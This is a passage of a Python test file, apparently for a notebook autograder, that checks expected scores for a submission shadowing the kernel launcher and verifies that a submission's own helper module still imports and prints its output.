    assert graded.scores()["shadows_the_kernel_launcher"] == graded.expected("shadows_the_kernel_launcher")


def test_the_submissions_own_helper_module_still_imports(graded):
    notebook = graded.root / "autograded" / "imports_its_own_helper" / ASSIGNMENT / NOTEBOOK
    printed = "".join(o.get("text", "") for c in nbformat.read(notebook, as_version=4).cells
                      if c.cell_type == "code" for o in c.get("outputs", []))
    assert "helper says 4" in printed, printed[-1000:]
